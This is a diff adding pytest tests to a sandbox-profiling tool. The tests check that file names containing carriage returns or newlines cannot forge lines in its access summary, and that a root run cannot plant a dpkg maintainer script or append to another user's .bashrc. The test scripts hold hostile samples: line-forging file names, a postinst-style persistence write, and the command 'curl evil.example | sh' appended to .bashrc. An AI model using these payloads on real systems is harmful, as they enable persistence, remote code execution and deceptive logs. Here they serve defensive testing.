@@ -3,7 +3,10 @@ recording proxy, the fold, and the proposal run back under the engine."""
 
 from __future__ import annotations
 
+import errno
+import json
 import os
+import secrets
 import subprocess
 from pathlib import Path
 
@@ -345,3 +348,111 @@ async def test_a_host_named_like_a_network_group_is_not_proposed(scratch: Path) 
         (name, "network_group") for name in ("llm_apis", "github", "package_registries")}
     profile = parse_profile(result.to_profile("ask"), "ask")
     assert not profile.network.allow_domain and profile.network.block
+
+
+# Two files outside the working directory, with names that draw lines (made by the test:
+# a repository or an archive the program unpacked earlier can hold such names), are read.
+DRAWING_NAMES = ("a\r  read_file  /srv/app/config.toml", "b\nnote: nothing else was used/x")
+READS_DRAWING_NAMES = r"""
+import os, sys
+for name in sys.argv[1:]:
+    open(name).read()
+"""
+
+
+async def test_names_the_program_chose_draw_no_lines_of_the_summary(scratch: Path) -> None:
+    """The summary is one line per item, and the paths in it are the program's to choose: a
+    file named with a carriage return drew over its own line (`read_file
+    /srv/app/config.toml` where a file of another name is granted), one with a line break
+    added a line of its own (`note: nothing else was used`). Both are shown escaped."""
+    data = scratch / "data"
+    paths = [data / name for name in DRAWING_NAMES]
+    for path in paths:
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text("x")
+    work = scratch / "work"
+    work.mkdir()
+    (work / "script.py").write_text(READS_DRAWING_NAMES)
+    with trio.fail_after(60):
+        result = await learn(["/usr/bin/python3", "-I", "script.py", *map(str, paths)],
+                             cwd=str(work), env={"HOME": str(scratch / "home"),
+                                                 "PATH": "/usr/bin:/bin"},
+                             timeout=30, base_profile=None)
+    assert result.exit_code == 0
+    assert {g.path for g in result.grants} >= set(map(str, paths))  # granted by their names
+    lines = result.summary_lines()
+    assert not any(c in line for line in lines for c in "\r\n"), lines
+    text = "\n".join(lines)
+    assert "a\\x0d  read_file  /srv/app/config.toml  (used)" in text
+    assert "b\\x0anote: nothing else was used/x  (used)" in text
+
+
+WRITES_WHAT_RUNS_LATER = r"""
+import json, os, secrets
+out = {}
+tag = secrets.token_hex(4)
+for directory in ("/var/lib/dpkg/info", "/var/spool", "/opt"):
+    path = os.path.join(directory, f"nono-learn-{tag}.postinst")
+    try:
+        with open(path, "x") as f:
+            f.write("#!/bin/sh\\ntouch /tmp/ran-as-root\\n")
+        out[directory] = path
+    except OSError as exc:
+        out[directory] = exc.errno
+print(json.dumps(out))
+"""
+
+
+@pytest.mark.root
+async def test_a_learn_run_as_root_does_not_write_what_runs_later(
+        scratch: Path, capfd: pytest.CaptureFixture[str]) -> None:
+    """Everything outside the operating system's trees was writable while learning, and as
+    root that took in the host state code is run from later, outside any sandbox: the program
+    wrote a maintainer script into `/var/lib/dpkg/info` (the next `apt` runs it as root), a
+    file into the job spools and into `/opt`. Those trees are read-only while learning now,
+    and the attempts are reported under "left out"."""
+    capfd.readouterr()
+    result, _ = await _learn_script(scratch, WRITES_WHAT_RUNS_LATER, timeout=30)
+    out = capfd.readouterr().out
+    written = json.loads(out.strip().splitlines()[-1])
+    for path in written.values():  # before: each was written; clean up before failing
+        if isinstance(path, str):
+            os.unlink(path)
+    assert result.exit_code == 0
+    assert written == {d: errno.EROFS for d in ("/var/lib/dpkg/info", "/var/spool", "/opt")}
+    left_out = {s.path for s in result.skipped if "refused" in s.reason}
+    assert any(p.startswith("/var/lib/dpkg/info/nono-learn-") for p in left_out), left_out
+
+
+WRITES_ANOTHER_USERS_HOME = r"""
+import json
+try:
+    with open(HOME + "/.bashrc", "a") as f:
+        f.write("curl evil.example | sh\n")
+    print(json.dumps("written"))
+except OSError as exc:
+    print(json.dumps(exc.errno))
+"""
+
+
+@pytest.mark.root
+async def test_a_learn_run_as_root_does_not_write_other_users_homes(
+        scratch: Path, capfd: pytest.CaptureFixture[str]) -> None:
+    """As root, every other account's home was writable while learning: the program appended
+    to a real user's `.bashrc` (made with `useradd`), run at that user's next login outside
+    any sandbox. Other accounts' homes are read-only for a root caller now."""
+    victim = f"nonolearn{secrets.token_hex(3)}"
+    home = scratch / "victim-home"
+    home.mkdir()
+    subprocess.run(["useradd", "--system", "--no-create-home", "--home-dir", str(home),
+                    "--shell", "/bin/sh", victim], check=True, capture_output=True)
+    try:
+        capfd.readouterr()
+        result, _ = await _learn_script(
+            scratch, f"HOME = {str(home)!r}\n" + WRITES_ANOTHER_USERS_HOME, timeout=30)
+        said = json.loads(capfd.readouterr().out.strip().splitlines()[-1])
+    finally:
+        subprocess.run(["userdel", victim], capture_output=True, check=False)
+    assert result.exit_code == 0
+    assert not (home / ".bashrc").exists()  # before: it held the program's line
+    assert said == errno.EROFS
